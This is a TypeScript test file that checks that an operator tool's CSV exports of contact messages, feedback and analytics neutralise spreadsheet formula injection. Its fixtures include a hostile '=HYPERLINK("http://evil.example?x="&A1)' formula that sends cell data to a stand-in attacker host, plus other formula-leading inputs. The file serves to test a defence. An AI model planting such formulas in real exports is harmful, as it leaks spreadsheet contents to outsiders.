import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { analyticsCounter } from "#server/analytics/analytics.schema.ts";
import { toCsv } from "#server/api/csv.ts";
import { contactMessage } from "#server/contact/contact.schema.ts";
import { openDatabase } from "#server/database/connect.ts";
import { feedbackAnswer, feedbackCampaign } from "#server/feedback/feedback.schema.ts";
import { testDatabase } from "#server/test/database.ts";
import { analyticsCommands } from "./analytics-commands.ts";
import { contactCommands } from "./contact-commands.ts";
import { feedbackCommands } from "./feedback-commands.ts";
import { operate } from "./operate.ts";

const database = await testDatabase();
const { db, close } = openDatabase({ url: database.url });
const hostile = '=HYPERLINK("http://evil.example?x="&A1)';
beforeAll(async () => {
  vi.stubEnv("DATABASE_URL", database.url);
  await db.insert(contactMessage).values([
    { ...contact("First"), name: hostile, message: 'He said "hi",\nand left' },
    { ...contact("Second"), name: "@SUM(1+1)" },
  ]);
  await db.insert(analyticsCounter).values(
    ["2026-11-19", "2026-11-20", "2026-11-21"].map((day, at) => ({
      day,
      category: "page",
      action: "browse",
      label: hostile,
      lang: 2,
      device: "mobile",
      source: "",
      count: at + 1,
    })),
  );
  const [campaign] = await db
    .insert(feedbackCampaign)
    .values({ title: { 2: "问卷" }, intro: {}, startsAt: new Date(), endsAt: new Date() })
    .returning();
  await db.insert(feedbackAnswer).values({
    campaignId: campaign?.id ?? 0,
    device: crypto.randomUUID(),
    lang: 2,
    frequency: "daily",
    frequencyOther: "",
    purposes: ["event", "market"],
    purposesOther: "",
    channel: "other",
    channelOther: "\t-1+1",
    satisfaction: "good",
    satisfactionOther: "",
    suggestion: hostile,
  });
});
afterAll(async () => {
  vi.unstubAllEnvs();
  await close();
  await database.drop();
});

function contact(message: string) {
  return {
    lang: 2,
    name: "陈大文",
    gender: "",
    phone: "+85291234567",
    account: "",
    email: "a@example.com",
    country: "HK",
    messenger: "",
    messengerId: "",
    interest: "A",
    message,
    newsletter: false,
  };
}

const cells = (csv: string): string[][] => parse(csv, { bom: true });

test("contacts export: writes CSV without formulas", async () => {
  const [header = [], first = [], second = []] = cells(await operate([contactCommands], ["contacts", "export"]));
  const at = (row: string[], name: string) => row[header.indexOf(name)];
  expect([first.length, second.length]).toEqual([header.length, header.length]);
  expect(at(first, "name")).toBe(`'${hostile}`);
  expect(at(first, "message")).toBe('He said "hi",\nand left');
  expect(at(first, "phone")).toBe("'+85291234567");
  expect(at(second, "name")).toBe("'@SUM(1+1)");
});

test("contacts list: writes one line per message", async () => {
  const lines = (await operate([contactCommands], ["contacts", "list", "--last", "1"])).split("\n");
  expect(lines).toHaveLength(1);
  await expect(operate([contactCommands], ["contacts", "list", "--last", "0"])).rejects.toThrow("--last takes");
});

test("feedback export: writes CSV without formulas", async () => {
  const [header = [], row = []] = cells(await operate([feedbackCommands], ["feedback", "export"]));
  const at = (name: string) => row[header.indexOf(name)];
  expect([at("questionnaire"), at("purposes")]).toEqual(["问卷", "event market"]);
  expect([at("channel_other"), at("suggestion")]).toEqual(["'\t-1+1", `'${hostile}`]);
});

test("analytics: writes the counts of days as lines or CSV", async () => {
  const ask = (...options: string[]) => operate([analyticsCommands], ["analytics", ...options]);
  const days = ["--from", "2026-11-20", "--to", "2026-11-21"];
  expect((await ask(...days)).split("\n").map((line) => line.split("  ").slice(0, 2))).toEqual([
    ["2026-11-20", "2"],
    ["2026-11-21", "3"],
  ]);
  const [header = [], ...rows] = cells(await ask(...days, "--csv"));
  expect(rows.map((row) => row[header.indexOf("count")])).toEqual(["2", "3"]);
  expect(rows[0]?.[header.indexOf("label")]).toBe(`'${hostile}`);
  expect(await ask("--to", "2026-11-19")).toMatch(/^2026-11-19 {2}1 /);
  expect(await ask("--to", "2020-01-01")).toBe("No events from 2019-12-26 to 2020-01-01.");
  expect(await ask("--help")).toContain("kapok operator analytics [--from");
  await expect(ask("--from", "2026-02-31")).rejects.toThrow("--from takes a day");
  await expect(ask("--from", "2026-11-22", "--to", "2026-11-21")).rejects.toThrow("must not be after");
  await expect(ask("list")).rejects.toThrow("options only");
});

test.each(["=1", "+1", "-1", "@a", " =1", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "|x", "%x"])(
  "toCsv: escapes %j",
  (text) => {
    expect(cells(toCsv(["a"], [[text]]))[1]?.[0]).toMatch(/^'/);
  },
);
